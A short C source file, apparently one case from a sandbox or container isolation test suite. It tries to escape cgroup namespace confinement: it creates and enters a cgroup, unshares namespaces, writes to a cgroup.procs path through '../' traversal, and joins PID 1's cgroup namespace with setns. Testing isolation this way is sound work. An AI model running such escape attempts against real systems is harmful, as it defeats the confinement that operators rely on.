/* Makes cgroup namespaces after moving, to see more (cgroup_namespaces(7)). */
#include "common/attack.h"

static void attempt(void) {
    TRY(mkdir("/sys/fs/cgroup/inner", 0777));
    put("/sys/fs/cgroup/inner/cgroup.procs", "0");
    TRY(unshare(CLONE_NEWCGROUP | CLONE_NEWNS));
    show("/proc/self/cgroup");
    show("/proc/1/cgroup");
    const char *place = mounted("cgroup2", NULL);
    char path[128];
    snprintf(path, sizeof path, "%s/../../../cgroup.procs", place ? place : "/sys/fs/cgroup");
    put(path, "0");
    int other = TRY(open("/proc/1/ns/cgroup", O_RDONLY));
    TRY(setns(other, CLONE_NEWCGROUP));
    put("/sys/fs/cgroup/cgroup.procs", "0");
}
